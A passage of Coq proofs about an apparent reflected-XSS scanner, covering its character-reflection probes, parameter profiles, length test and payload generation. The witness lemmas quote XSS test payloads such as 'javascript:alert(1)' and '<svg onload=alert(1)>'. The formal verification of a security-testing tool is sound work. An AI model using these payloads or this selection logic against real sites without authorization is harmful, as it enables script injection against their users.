  p ∈ generate_payloads analysis.
Proof.
  intros Hsub. rewrite !elem_of_generate_payloads.
  intros (Hsrc & Hfits & Hkeeps). split; [exact Hsrc|]. split; [exact Hfits|].
  unfold keeps in *. apply andb_prop in Hkeeps as [Hstrip Hblocked].
  rewrite Hstrip. cbn [andb]. apply negb_true_iff in Hblocked.
  apply negb_true_iff. rewrite any_blocked_false in Hblocked |- *.
  intros c Hc Hin. apply (Hblocked c Hc). cbn. by apply Hsub.
Qed.

Lemma generate_payloads_blocked_mono_witness :
  "javascript:alert(1)" ∈ generate_payloads (gate_failed_profile page_url "q").
Proof.
  apply (generate_payloads_blocked_mono (gate_failed_profile page_url "q")
           {[ "<" ]}).
  - apply empty_subseteq.
  - compute_done.
Defined.

(** ** The predefined families *)

(** X3. With the angles not allowed the predefined payloads are exactly the
    encoded family; with the angles allowed no payload of the encoded family
    is among them and each of them has a raw [<]. *)
Theorem predefined_encoded_or_raw (analysis : ParamAnalysis) :
  (allows_angles analysis = false →
   get_predefined_payloads analysis = list_to_set encoded_family)
  ∧ (allows_angles analysis = true →
     ∀ p, p ∈ get_predefined_payloads analysis →
          (p ∉ encoded_family) ∧ "<" ∈ chars p).
Proof.
  split; intros Hangles; unfold get_predefined_payloads; rewrite Hangles;
    cbn [andb negb].
  - apply set_eq. intros p.
    rewrite !elem_of_union, !elem_of_update_if, elem_of_empty,
      elem_of_list_to_set.
    intuition congruence.
  - intros p.
    assert (Forall (λ q, (q ∉ encoded_family) ∧ "<" ∈ chars q)
              (script_family ++ quoted_family ++ css_family)) as Hraw
      by compute_done.
    rewrite Forall_forall in Hraw. intros Hp. apply Hraw.
    rewrite !elem_of_app.
    rewrite !elem_of_union, !elem_of_update_if in Hp.
    destruct (allows_scripts analysis && _ && _).
    + rewrite elem_of_union, elem_of_list_to_set, elem_of_update_if in Hp.
      intuition congruence.
    + rewrite elem_of_empty in Hp. intuition congruence.
Qed.

Lemma predefined_encoded_or_raw_witness :
  get_predefined_payloads (gate_failed_profile page_url "q")
  = list_to_set encoded_family
  ∧ (("<svg onload=alert(1)>" ∉ encoded_family)
     ∧ "<" ∈ chars "<svg onload=alert(1)>").
Proof.
  split.
  - by apply (predefined_encoded_or_raw (gate_failed_profile page_url "q")).
  - apply (predefined_encoded_or_raw
             {| param := "q"; url := page_url;
                allowed_chars := list_to_set ["="; "/"];
                blocked_chars := ∅; max_length := None;
                allows_spaces := false; allows_quotes := false;
                allows_angles := true; allows_parens := false;
                allows_scripts := true; allows_events := false |});
      [reflexivity|compute_done].
Defined.

(** ** The dynamic generator, the other way round *)

Lemma chars_allowed_elem (analysis : ParamAnalysis) (fragments : list string)
    (s : string) :
  chars_allowed analysis fragments → s ∈ fragments →
  all_allowed analysis s = true.
Proof.
  intros Hall Hs. apply all_allowed_true. intros c Hc. by apply (Hall s).
Qed.

Lemma chars_allowed_one (analysis : ParamAnalysis) (fragments : list string)
    (c : string) :
  chars c = [c] → chars_allowed analysis fragments → c ∈ fragments →
  allowed analysis c = true.
Proof.
  intros Hchars Hall Hc. apply allowed_true. apply (Hall c Hc).
  rewrite Hchars. apply list_elem_of_singleton. done.
Qed.

(** A fragment, or a character, of a list of allowed fragments. *)
Ltac fragment_allowed Hall :=
  first [ eapply chars_allowed_one; [reflexivity|exact Hall|]
        | apply (chars_allowed_elem _ _ _ Hall) ];
  rewrite !elem_of_cons; tauto.

(** X4. The checks of the generator are sufficient as well: for a profile
    with the angles and the scripts flags set, every candidate whose checked
    fragments are allowed, and every evasion string all of whose characters
    are allowed, is emitted by [generate_dynamic_payloads]. *)
Theorem dynamic_payload_emitted (analysis : ParamAnalysis) (p : string) :
  allows_angles analysis = true →
  allows_scripts analysis = true →
  emitted_with_checks analysis p →
  p ∈ generate_dynamic_payloads analysis.
Proof.
  intros Hangles Hscripts Hp. unfold generate_dynamic_payloads.
  rewrite Hangles, Hscripts. cbn [andb].
  rewrite !elem_of_union, !elem_of_update_if, !list_elem_of_filter,
    elem_of_app.
  destruct Hp as [Hp|[Hp|[Hp|Hp]]].
  - destruct Hp as (tag & mutated_tag & func & Htag & Hmutated & Hfunc & Hp
                    & Hall).
    left; left. split.
    + apply andb_true_intro. split; fragment_allowed Hall.
    + left. apply elem_of_tag_function_payloads.
      exists tag, mutated_tag, func. repeat (split; [done|]).
      repeat (split; [fragment_allowed Hall|]).
      left. split; [|done].
      apply andb_true_intro. split; fragment_allowed Hall.
  - destruct Hp as (tag & mutated_tag & func & Htag & Hmutated & Hfunc & Hp
                    & Hall).
    left; left. split.
    + apply andb_true_intro. split; fragment_allowed Hall.
    + left. apply elem_of_tag_function_payloads.
      exists tag, mutated_tag, func. repeat (split; [done|]).
      repeat (split; [fragment_allowed Hall|]).
      right. split; [|done]. fragment_allowed Hall.
  - destruct Hp as (tag & event & ev & Htag & Hevent & Hev & Hall & Hp).
    left; left. split.
    + apply andb_true_intro. split; fragment_allowed Hall.
    + right. apply elem_of_tag_event_payloads.
      exists tag, event, ev. repeat (split; [done|]).
      repeat (split; [fragment_allowed Hall|]).
      destruct Hp as [[-> Hquotes]|[[-> Hcolon]|[-> Hentity]]].
      * by left.
      * right; left. split; [|done]. fragment_allowed Hcolon.
      * right; right. split; [|done].
        apply andb_true_intro. split; fragment_allowed Hentity.
  - destruct Hp as [Hp Hall].
    assert (all_allowed analysis p = true) as Hok by fragment_allowed Hall.
    apply elem_of_app in Hp as [Hp|Hp].
    + left; right. done.
    + right. split; [|done].
      assert (Forall (λ q, Forall (λ c, c ∈ chars q) (chars "javascript:"))
                proto_evasions) as Hprefix by compute_done.
      rewrite Forall_forall in Hprefix. specialize (Hprefix p Hp).
      rewrite Forall_forall in Hprefix.
      apply all_allowed_true. intros c Hc.
      apply (all_allowed_true analysis p); [done|]. by apply Hprefix.
Qed.

Lemma dynamic_payload_emitted_witness :
  "javascript:this" ∈ generate_dynamic_payloads
    {| param := "q"; url := page_url;
       allowed_chars := list_to_set (chars "javascript:this");
       blocked_chars := ∅; max_length := None;
       allows_spaces := false; allows_quotes := false;
       allows_angles := true; allows_parens := false;
       allows_scripts := true; allows_events := false |}.
Proof.
  apply dynamic_payload_emitted; [reflexivity|reflexivity|].
  right; right; right. split; [compute_done|].
  intros fragment Hfragment c Hc.
  apply list_elem_of_singleton in Hfragment as ->.
  cbn. apply elem_of_list_to_set. exact Hc.
Defined.

(** ** The probes of strings *)

(** X5. [test_chars_batch] answers true exactly when some character of the
    string is reflected when doubled; the string as a whole is never sent,
    the empty string gives false, and neither the clock nor the cache has a
    part in the answer. *)
Theorem test_chars_batch_some_char_doubled (E : Env) (url param chars_ : string)
    (w : world) :
  (fst (test_chars_batch E url param chars_ w) = true
   ↔ ∃ c, c ∈ chars chars_ ∧ reflected E url param (mul c 2) = true)
  ∧ (∀ w', fst (test_chars_batch E url param chars_ w')
           = fst (test_chars_batch E url param chars_ w))
  ∧ fst (test_chars_batch E url param "" w) = false.
Proof.
  split; [|split].
  - rewrite test_chars_batch_spec, existsb_exists.
    split; intros (c & Hc & Hprobe); exists c; (split; [|exact Hprobe]);
      by apply list_elem_of_In.
  - intros w'. by rewrite !test_chars_batch_spec.
  - by rewrite test_chars_batch_spec.
Qed.

(** X6. For a test that gives the same answer at every step of the search,
    [quick_test_length] has two possible results: 5000 when the answer is
    yes, 9 when it is no. With a server that is a function of the request,
    as in this embedding, the test of the code is such a test: whatever the
    length it is asking about, its answer is the answer of the probe [AA];
    so [quick_test_length] returns 5000 when [AA] is reflected and 9 when
    it is not. *)
Theorem quick_test_length_5000_or_9 (E : Env) (url param : string) (w : world) :
  (∀ (test : string → M bool) (answer : bool) (w0 : world),
     (∀ mid w', (10 ≤ mid ≤ 5000)%Z → fst (test (mul "A" mid) w') = answer) →
     fst (quick_test_length_with test w0)
     = Some (if answer then 5000 else 9)%Z)
  ∧ (∀ mid w', (1 ≤ mid)%Z →
       fst (test_chars_batch E url param (mul "A" mid) w')
       = reflected E url param "AA")
  ∧ fst (quick_test_length E url param w)
    = Some (if reflected E url param "AA" then 5000 else 9)%Z.
Proof.
  split; [|split].
  - intros test [] w0 Hanswer.
    + apply (quick_test_length_exact test 5000%Z); [|lia].
      intros mid w' Hmid. rewrite Hanswer by done.
      symmetry. apply Z.leb_le. lia.
    + apply (quick_test_length_below test 0%Z); [|lia].
      intros mid w' Hmid. rewrite Hanswer by done.
      symmetry. apply Z.leb_gt. lia.
  - intros mid w' Hmid. by rewrite test_chars_batch_length.
  - apply quick_test_length_two_values.
Qed.

Lemma quick_test_length_5000_or_9_witness :
  fst (quick_test_length min_length_env page_url "q" still_world) = Some 9%Z
  ∧ fst (quick_test_length
           (page_env (λ value, Ok {| status := 200; text := Ok value |})
              (λ _, Ok ()) default_char_groups)
           page_url "q" still_world) = Some 5000%Z.
Proof.
  split.
  - by destruct (quick_test_length_5000_or_9 min_length_env page_url "q"
                   still_world) as (_ & _ & ->).
  - by destruct (quick_test_length_5000_or_9
                   (page_env (λ value, Ok {| status := 200; text := Ok value |})
                      (λ _, Ok ()) default_char_groups) page_url "q"
                   still_world) as (_ & _ & ->).
Defined.

(** The answers have to be the same: with a test that accepts once and
    never again the search ends elsewhere. *)
Example quick_test_length_changing_answer :
  fst (quick_test_length_with first_time_only still_world) = Some 2505%Z.
Proof. vm_compute. reflexivity. Qed.

(** ** The profile of a parameter *)

Section ProfileProperties.

Variable E : Env.
Variables url param : string.

Lemma dict_of_sound (batch : list string) :
  values_sound E url param (dict_of (zip batch (map (probe E url param) batch))).
Proof.
  unfold dict_of.
  assert (∀ (pairs : list (string * bool)) (d : gmap string bool),
            values_sound E url param d →
            Forall (λ kv, snd kv = probe E url param (fst kv)) pairs →
            values_sound E url param (foldl (λ d kv, <[fst kv := snd kv]> d) d pairs))
    as Hfold.
  { induction pairs as [|[k v] pairs IH]; intros d Hd Hpairs; [done|].
    apply Forall_cons in Hpairs as [Hkv Hpairs]. cbn. apply IH; [|done].
    intros c v'. rewrite lookup_insert. case_decide as Hk.
    - subst c. cbn in Hkv. by intros [= <-].
    - apply Hd. }
  apply Hfold.
  - intros c v H. by rewrite lookup_empty in H.
  - induction batch as [|c batch IH]; cbn; by constructor.
Qed.

Lemma sweep_batches_sound (char_batches : list (list string))
    (results results' : gmap string bool) :
  values_sound E url param results →
  sweep_batches E url param char_batches results = Ok results' →
  values_sound E url param results'.
Proof.
  revert results.
  induction char_batches as [|batch rest IH]; intros results Hsound; cbn.
  - by intros [= <-].
  - rewrite gather_probes_map. cbn. apply IH.
    intros c v. unfold dict_update. rewrite lookup_union_Some_raw.
    intros [Hc|[_ Hc]]; [by eapply dict_of_sound|by apply Hsound].
Qed.

Lemma sweep_groups_sound (groups : list (string * string))
    (results results' : gmap string bool) :
  values_sound E url param results →
  sweep_groups E url param groups results = Ok results' →
  values_sound E url param results'.
Proof.
  revert results.
  induction groups as [|[group_name chars_] rest IH]; intros results Hsound;
    cbn.
  - by intros [= <-].
  - destruct (sweep_batches E url param (batches (chars chars_)) results)
      as [results1|e] eqn:Hbatches; cbn; [|done].
    apply IH. by eapply sweep_batches_sound.
Qed.

(** The profile after a sweep, field by field. *)
Lemma analyze_parameter_swept (w w' : world) (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  viability_gate E url param = Ok true →
  ∃ results w1 w2,
    sweep_groups E url param (char_groups E) ∅ = Ok results
    ∧ analysis
      = Build_ParamAnalysis param url
          (chars_with true results)
          (chars_with false results)
          (fst (quick_test_length E url param w2))
          (bool_decide (" " ∈ chars_with true results))
          (bool_decide (DQ ∈ chars_with true results)
           || bool_decide ("'" ∈ chars_with true results))
          (bool_decide ("<" ∈ chars_with true results)
           && bool_decide (">" ∈ chars_with true results))
          (bool_decide ("(" ∈ chars_with true results)
           && bool_decide (")" ∈ chars_with true results))
          (fst (quick_test_scripts E url param w))
          (fst (quick_test_events E url param w1)).
Proof.
  unfold analyze_parameter, viability_gate, bind, ret, mbind, result_bind.
  destruct (console_print E (status_line param)) as [[]|e]; [|done].
  destruct (getitem (char_groups E) "basic") as [basic|e]; [|done].
  cbv beta iota zeta. rewrite !gather_probes_map.
  destruct (any _); cbn [negb]; cbv beta iota zeta; [|done].
  destruct (sweep_groups E url param (char_groups E) ∅) as [results|e]; [|done].
  cbv beta iota zeta.
  destruct (quick_test_scripts E url param w) as [scripts w1].
  destruct (quick_test_events E url param w1) as [events w2] eqn:Hevents.
  destruct (quick_test_length E url param w2) as [length_ w3] eqn:Hlength.
  intros Hrun _. injection Hrun as Hanalysis Hworld. subst analysis.
  exists results, w1, w2. split; [done|]. by rewrite Hevents, Hlength.
Qed.

(** The results of the full sweep: one entry for every swept character,
    holding the answer of its probe. *)
Lemma sweep_results (results : gmap string bool) (c : string) (v : bool) :
  sweep_groups E url param (char_groups E) ∅ = Ok results →
  results !! c = Some v ↔ c ∈ swept_chars E ∧ probe E url param c = v.
Proof.
  intros Hsweep.
  assert (values_sound E url param results) as Hsound.
  { eapply sweep_groups_sound; [|exact Hsweep].
    intros c' v' H. by rewrite lookup_empty in H. }
  destruct (sweep_groups_dom E url param (char_groups E) ∅)
    as (results' & Hsweep' & Hdom).
  rewrite Hsweep in Hsweep'. injection Hsweep' as <-.
  rewrite dom_empty_L, (left_id_L ∅ (∪)) in Hdom.
  fold (swept_chars E) in Hdom.
  rewrite <- (elem_of_list_to_set (C := gset string)), <- Hdom, elem_of_dom.
  split.
  - intros Hc. split; [by exists v|]. symmetry. by apply Hsound.
  - intros [[v' Hc] Hv]. rewrite Hc. f_equal. rewrite <- Hv. by apply Hsound.
Qed.

End ProfileProperties.

(** X7. When the sweep has run, the two classes of the profile are read off
    the probes: a character is allowed when it was swept and came back
    doubled, blocked when it was swept and did not. *)
Theorem analyze_parameter_classes_by_probe (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) (c : string) :
  analyze_parameter E url param w = (Ok analysis, w') →
  viability_gate E url param = Ok true →
  (c ∈ allowed_chars analysis
   ↔ c ∈ swept_chars E ∧ reflected E url param (mul c 2) = true)
  ∧ (c ∈ blocked_chars analysis
     ↔ c ∈ swept_chars E ∧ reflected E url param (mul c 2) = false).
Proof.
  intros Hrun Hgate.
  destruct (analyze_parameter_swept E url param w w' analysis Hrun Hgate)
    as (results & w1 & w2 & Hsweep & ->).
  cbn [allowed_chars blocked_chars]. rewrite !elem_of_chars_with.
  split; by apply sweep_results.
Qed.

(** On the page of [letters_env] the letter [a] is allowed and [<] is
    blocked. *)
Lemma analyze_parameter_classes_by_probe_witness :
  ("a" ∈ allowed_chars letters_env_profile
   ↔ "a" ∈ swept_chars letters_env
     ∧ reflected letters_env page_url "q" (mul "a" 2) = true)
  ∧ ("a" ∈ blocked_chars letters_env_profile
     ↔ "a" ∈ swept_chars letters_env
       ∧ reflected letters_env page_url "q" (mul "a" 2) = false).
Proof.
  apply (analyze_parameter_classes_by_probe letters_env page_url "q"
           still_world
           (snd (analyze_parameter letters_env page_url "q" still_world)));
    vm_compute; reflexivity.
Defined.

(** A profile is returned either by the gate, unchanged world included, or
    after the sweep. *)
Lemma analyze_parameter_gate (E : Env) (url param : string) (w w' : world)
    (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  (viability_gate E url param = Ok false
   ∧ analysis = gate_failed_profile url param ∧ w' = w)
  ∨ viability_gate E url param = Ok true.
Proof.
  intros Hrun.
  destruct (analyze_parameter_cases E url param w)
    as [(e & Hraise & _)|[[Hgate Hfail]|[Hgate _]]].
  - rewrite Hrun in Hraise. discriminate Hraise.
  - left. rewrite Hrun in Hfail. by injection Hfail as -> ->.
  - by right.
Qed.

(** X8. A flag of a returned profile is set only on the evidence of
    reflections: the space, one of the two quotes, both angles, both
    parentheses came back doubled. *)
Theorem analyze_parameter_flags_by_probe (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  (allows_spaces analysis = true → reflected E url param "  " = true)
  ∧ (allows_quotes analysis = true →
     reflected E url param (DQ +:+ DQ) = true
     ∨ reflected E url param "''" = true)
  ∧ (allows_angles analysis = true →
     reflected E url param "<<" = true ∧ reflected E url param ">>" = true)
  ∧ (allows_parens analysis = true →
     reflected E url param "((" = true ∧ reflected E url param "))" = true).
Proof.
  intros Hrun.
  destruct (analyze_parameter_gate E url param w w' analysis Hrun)
    as [(_ & -> & _)|Hgate]; [by repeat split|].
  destruct (analyze_parameter_swept E url param w w' analysis Hrun Hgate)
    as (results & w1 & w2 & Hsweep & ->).
  cbn [allows_spaces allows_quotes allows_angles allows_parens].
  assert (∀ c, bool_decide (c ∈ chars_with true results) = true →
               probe E url param c = true) as Hflag.
  { intros c Hc. apply bool_decide_eq_true in Hc.
    apply elem_of_chars_with in Hc.
    by apply (sweep_results E url param results c true Hsweep) in Hc as [_ Hc]. }
  split; [|split; [|split]].
  - apply (Hflag " ").
  - intros Hquotes. apply orb_prop in Hquotes as [Hq|Hq];
      [left; by apply (Hflag DQ)|right; by apply (Hflag "'")].
  - intros Hangles. apply andb_prop in Hangles as [Hopen Hclose].
    split; [by apply (Hflag "<")|by apply (Hflag ">")].
  - intros Hparens. apply andb_prop in Hparens as [Hopen Hclose].
    split; [by apply (Hflag "(")|by apply (Hflag ")")].
Qed.

(** The page of [punctuation_env] sets the four flags. *)
Lemma analyze_parameter_flags_by_probe_witness :
  reflected punctuation_env page_url "q" "  " = true
  ∧ (reflected punctuation_env page_url "q" (DQ +:+ DQ) = true
     ∨ reflected punctuation_env page_url "q" "''" = true)
  ∧ (reflected punctuation_env page_url "q" "<<" = true
     ∧ reflected punctuation_env page_url "q" ">>" = true)
  ∧ (reflected punctuation_env page_url "q" "((" = true
     ∧ reflected punctuation_env page_url "q" "))" = true).
Proof.
  destruct (analyze_parameter_flags_by_probe punctuation_env page_url "q"
              still_world
              (snd (analyze_parameter punctuation_env page_url "q" still_world))
              punctuation_env_profile)
    as (Hspaces & Hquotes & Hangles & Hparens); [vm_compute; reflexivity|].
  split; [by apply Hspaces|]. split; [by apply Hquotes|].
  split; [by apply Hangles|by apply Hparens].
Defined.

(** X9. After a sweep, no payload handed out has a character that was
    probed and did not come back: every swept character of a payload of
    [generate_payloads] was reflected when doubled. *)
Theorem payload_swept_chars_reflected (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) (p c : string) :
  analyze_parameter E url param w = (Ok analysis, w') →
  viability_gate E url param = Ok true →
  p ∈ generate_payloads analysis →
  c ∈ chars p →
  c ∈ swept_chars E →
  reflected E url param (mul c 2) = true.
Proof.
  intros Hrun Hgate Hp Hc Hswept.
  destruct (analyze_parameter_swept E url param w w' analysis Hrun Hgate)
    as (results & w1 & w2 & Hsweep & ->).
  apply elem_of_generate_payloads in Hp as (_ & _ & Hkeeps).
  unfold keeps in Hkeeps. apply andb_prop in Hkeeps as [_ Hblocked].
  apply negb_true_iff in Hblocked.
  rewrite any_blocked_false in Hblocked. specialize (Hblocked c Hc).
  cbn [blocked_chars] in Hblocked. rewrite elem_of_chars_with in Hblocked.
  destruct (reflected E url param (mul c 2)) eqn:Hprobe; [done|].
  destruct Hblocked.
  by apply (sweep_results E url param results c false Hsweep).
Qed.

(** The payload [javascript:this] of the page of [echo_env] and its
    character [j]. *)
Lemma payload_swept_chars_reflected_witness :
  reflected echo_env page_url "q" (mul "j" 2) = true.
Proof.
  apply (payload_swept_chars_reflected echo_env page_url "q" still_world
           (snd (analyze_parameter echo_env page_url "q" still_world))
           echo_env_profile "javascript:this" "j").
  - vm_compute. reflexivity.
  - reflexivity.
  - compute_done.
  - compute_done.
  - compute_done.
Defined.

(** X10. The two quick tests in general: each answers true exactly when
    some character of some string of its list is reflected when doubled. *)
Theorem quick_tests_some_char_doubled (E : Env) (url param : string)
    (w : world) :
  (fst (quick_test_scripts E url param w) = true
   ↔ ∃ payload c, payload ∈ script_test_payloads ∧ c ∈ chars payload
                  ∧ reflected E url param (mul c 2) = true)
  ∧ (fst (quick_test_events E url param w) = true
     ↔ ∃ payload c, payload ∈ event_test_payloads ∧ c ∈ chars payload
                    ∧ reflected E url param (mul c 2) = true).
Proof.
  rewrite quick_test_scripts_spec, quick_test_events_spec.
  split; rewrite existsb_exists; setoid_rewrite existsb_exists;
    setoid_rewrite <- list_elem_of_In; unfold probe.
  - split.
    + intros (payload & Hpayload & c & Hc & Hprobe). by exists payload, c.
    + intros (payload & c & Hpayload & Hc & Hprobe).
      exists payload. split; [done|]. by exists c.
  - split.
    + intros (payload & Hpayload & c & Hc & Hprobe). by exists payload, c.
    + intros (payload & c & Hpayload & Hc & Hprobe).
      exists payload. split; [done|]. by exists c.
Qed.

(** A limit of 9 is below the length of every string the generators know,
    a limit of 5000 above all of them. *)
Lemma length_limit_nine (analysis : ParamAnalysis) :
  max_length analysis = Some 9%Z → generate_payloads analysis = [].
Proof.
  intros Hmax.
  assert (Forall (λ p, 9 < len p)%Z universe) as Hlen by compute_done.
  rewrite Forall_forall in Hlen.
  apply elem_of_nil_inv. intros p Hp.
  pose proof (proj1 (Forall_forall _ _)
                (generate_payloads_universe analysis) p Hp) as Huniverse.
  apply elem_of_generate_payloads in Hp as (_ & Hfits & _).
  unfold fits in Hfits. rewrite Hmax in Hfits. cbn in Hfits.
  apply Z.leb_le in Hfits. specialize (Hlen p Huniverse). lia.
Qed.

Lemma length_limit_five_thousand (analysis : ParamAnalysis) (p : string) :
  max_length analysis = Some 5000%Z →
  p ∈ generate_payloads analysis
  ↔ (p ∈ get_predefined_payloads analysis
     ∨ p ∈ generate_dynamic_payloads analysis)
    ∧ keeps analysis p = true.
Proof.
  intros Hmax.
  assert (Forall (λ p, len p ≤ 5000)%Z universe) as Hlen by compute_done.
  rewrite Forall_forall in Hlen.
  rewrite elem_of_generate_payloads. split; [tauto|].
  intros [Hp Hkeeps]. split; [done|]. split; [|done].
  unfold fits. rewrite Hmax. cbn. apply Z.leb_le. apply Hlen.
  destruct Hp; [by eapply predefined_in_universe
               |by eapply dynamic_in_universe].
Qed.

(** X11. With a server that is a function of the request, as in this
    embedding, the length limit is all or nothing. After a sweep,
    [max_length] is 9 for a parameter that does not reflect [AA] and 5000 for
    one that does. In the first case [generate_payloads] returns no payload
    at all, every string the generators know being longer than 9; in the
    second the length filter removes nothing. *)
Theorem length_limit_all_or_nothing (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  viability_gate E url param = Ok true →
  max_length analysis
  = Some (if reflected E url param "AA" then 5000 else 9)%Z
  ∧ (reflected E url param "AA" = false →
     max_length analysis = Some 9%Z ∧ generate_payloads analysis = [])
  ∧ (reflected E url param "AA" = true →
     max_length analysis = Some 5000%Z
     ∧ ∀ p, p ∈ generate_payloads analysis
            ↔ (p ∈ get_predefined_payloads analysis
               ∨ p ∈ generate_dynamic_payloads analysis)
              ∧ keeps analysis p = true).
Proof.
  intros Hrun Hgate.
  assert (max_length analysis
          = Some (if reflected E url param "AA" then 5000 else 9)%Z) as Hmax.
  { destruct (analyze_parameter_swept E url param w w' analysis Hrun Hgate)
      as (results & w1 & w2 & _ & ->).
    cbn [max_length]. apply quick_test_length_two_values. }
  split; [exact Hmax|].
  split; intros Hprobe; rewrite Hprobe in Hmax; (split; [exact Hmax|]).
  - by apply length_limit_nine.
  - intros p. by apply length_limit_five_thousand.
Qed.

(** The page of [letters_env] does not reflect [AA]; the page of [echo_env]
    does. *)
Lemma length_limit_all_or_nothing_witness :
  (max_length letters_env_profile = Some 9%Z
   ∧ generate_payloads letters_env_profile = [])
  ∧ (max_length echo_env_profile = Some 5000%Z
     ∧ ("javascript:this" ∈ generate_payloads echo_env_profile
        ↔ ("javascript:this" ∈ get_predefined_payloads echo_env_profile
           ∨ "javascript:this" ∈ generate_dynamic_payloads echo_env_profile)
          ∧ keeps echo_env_profile "javascript:this" = true)).
Proof.
  split.
  - destruct (length_limit_all_or_nothing letters_env page_url "q" still_world
                (snd (analyze_parameter letters_env page_url "q" still_world))
                letters_env_profile) as (_ & Hnothing & _);
      [vm_compute; reflexivity|reflexivity|].
    by apply Hnothing.
  - destruct (length_limit_all_or_nothing echo_env page_url "q" still_world
                (snd (analyze_parameter echo_env page_url "q" still_world))
                echo_env_profile) as (_ & _ & [Hmax Hall]);
      [vm_compute; reflexivity|reflexivity|reflexivity|].
    split; [exact Hmax|apply Hall].
Defined.

(** ** The gate and the catalog *)

(** X12. The gate looks at the first ten characters of the group [basic]
    and at nothing else: when none of them is reflected the empty profile is
    returned at once, whatever the other characters do, and the clock has
    not been read. *)
Theorem gate_reads_ten_characters (E : Env) (url param basic : string)
    (w : world) :
  console_print E (status_line param) = Ok () →
  getitem (char_groups E) "basic" = Ok basic →
  Forall (λ c, reflected E url param (mul c 2) = false)
    (take 10 (chars basic)) →
  analyze_parameter E url param w = (Ok (gate_failed_profile url param), w).
Proof.
  intros Hprint Hbasic Hnone.
  unfold analyze_parameter, bind, ret. rewrite Hprint, Hbasic.
  cbv beta iota zeta. rewrite gather_probes_map.
  replace (take (min 10 (length (chars basic))) (chars basic))
    with (take 10 (chars basic)).
  2:{ destruct (Nat.min_spec 10 (length (chars basic))) as [[_ ->]|[Hle ->]];
        [done|]. by rewrite !take_ge by lia. }
  replace (any (map (probe E url param) (take 10 (chars basic)))) with false;
    [done|].
  symmetry. unfold any.
  induction Hnone as [|c l Hc Hl IH]; [done|].
  cbn. unfold probe at 1. by rewrite Hc.
Qed.

(** The server of [silent_env] never answers. *)
Lemma gate_reads_ten_characters_witness :
  analyze_parameter silent_env page_url "q" still_world
  = (Ok (gate_failed_profile page_url "q"), still_world).
Proof.
  apply (gate_reads_ten_characters silent_env page_url "q"
           "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789").
  - reflexivity.
  - reflexivity.
  - compute_done.
Defined.

Section CatalogProperties.

Variable E : Env.

Lemma analyze_params_raise (url param : string) (rest : list string)
    (results : list (string * list string)) (w : world) (e : exn) :
  analyze_parameter E url param w = (Raise e, w) →
  analyze_params E url (param :: rest) results w = (Raise e, w).
Proof. intros Hrun. cbn [analyze_params]. unfold bind. by rewrite Hrun. Qed.

Lemma analyze_parameter_missing_basic (url param : string) (w : world)
    (e : exn) :
  getitem (char_groups E) "basic" = Raise e →
  ∃ e', analyze_parameter E url param w = (Raise e', w).
Proof.
  intros Hbasic. unfold analyze_parameter, bind, ret.
  destruct (console_print E (status_line param)) as [[]|e']; [|by eexists].
  rewrite Hbasic. by eexists.
Qed.

Lemma analyze_url_missing_basic (url : string) (w : world) (e : exn) :
  getitem (char_groups E) "basic" = Raise e →
  analyze_url E url w = ([], w).
Proof.
  intros Hbasic. unfold analyze_url.
  destruct (extract_parameters E url) as [|[param value] params]; [done|].
  cbn [map fst].
  destruct (analyze_parameter_missing_basic url param w e Hbasic) as [e' He'].
  unfold bind. by rewrite (analyze_params_raise _ _ _ _ _ e' He').
Qed.

Lemma collect_missing_basic (urls : list string)
    (unique_payloads : gset string) (w : world) (e : exn) :
  getitem (char_groups E) "basic" = Raise e →
  collect E urls unique_payloads w = (unique_payloads, w).
Proof.
  intros Hbasic. induction urls as [|url rest IH]; [done|].
  cbn [collect]. unfold bind.
  by rewrite (analyze_url_missing_basic url w e Hbasic).
Qed.

End CatalogProperties.

(** X13. With a catalog that has no group [basic], the analysis of every
    parameter raises before any request is sent, every URL gives the empty
    result, and the output file of the run is empty, whatever the URLs and
    the server. *)
Theorem missing_basic_group_empty_output (E : Env) (urls : list string)
    (w : world) (e : exn) :
  getitem (char_groups E) "basic" = Raise e →
  (∀ url, analyze_url E url w = ([], w))
  ∧ output_file E urls w = ("", w).
Proof.
  intros Hbasic. split.
  - intros url. by apply (analyze_url_missing_basic E url w e).
  - unfold output_file, bind, ret.
    by rewrite (collect_missing_basic E urls ∅ w e Hbasic).
Qed.

Lemma missing_basic_group_empty_output_witness :
  (∀ url, analyze_url no_basic_env url still_world = ([], still_world))
  ∧ output_file no_basic_env [page_url] still_world = ("", still_world).
Proof.
  apply (missing_basic_group_empty_output no_basic_env [page_url] still_world
           (KeyError "basic")).
  reflexivity.
Defined.

(** ** The result of a URL *)

Lemma setitem_keys {V} (d : list (string * V)) (key : string) (v : V) :
  map fst (setitem d key v)
  = if bool_decide (key ∈ map fst d) then map fst d else map fst d ++ [key].
Proof.
  induction d as [|[k v'] d IH]; [done|].
  cbn [setitem map fst]. destruct (String.eqb_spec k key) as [->|Hne].
  - cbn [map fst]. rewrite bool_decide_eq_true_2; [done|]. apply list_elem_of_here.
  - cbn [map fst]. rewrite IH.
    destruct (decide (key ∈ map fst d)) as [Hin|Hout].
    + rewrite !bool_decide_eq_true_2; [done|by apply list_elem_of_further|done].
    + rewrite !bool_decide_eq_false_2; [done| |done].
      rewrite elem_of_cons. intros [?|?]; [congruence|done].
Qed.

Lemma setitem_NoDup {V} (d : list (string * V)) (key : string) (v : V) :
  NoDup (map fst d) → NoDup (map fst (setitem d key v)).
Proof.
  intros Hd. rewrite setitem_keys. case_bool_decide as Hkey; [done|].
  apply NoDup_app. split; [done|]. split; [|apply NoDup_singleton].
  intros k Hk Hk'. apply list_elem_of_singleton in Hk'. by subst k.
Qed.

Lemma setitem_Forall {V} (P : string * V → Prop) (d : list (string * V))
    (key : string) (v : V) :
  Forall P d → P (key, v) → Forall P (setitem d key v).
Proof.
  intros Hd Hkv. induction Hd as [|[k v'] d Hk Hd IH]; cbn.
  - by repeat constructor.
  - destruct (String.eqb_spec k key) as [->|Hne]; constructor; done.
Qed.

Lemma results_shape_nil (params : list string) : results_shape params [].
Proof. split; constructor. Qed.

Section ResultProperties.

Variable E : Env.

Lemma extract_parameters_NoDup (url : string) :
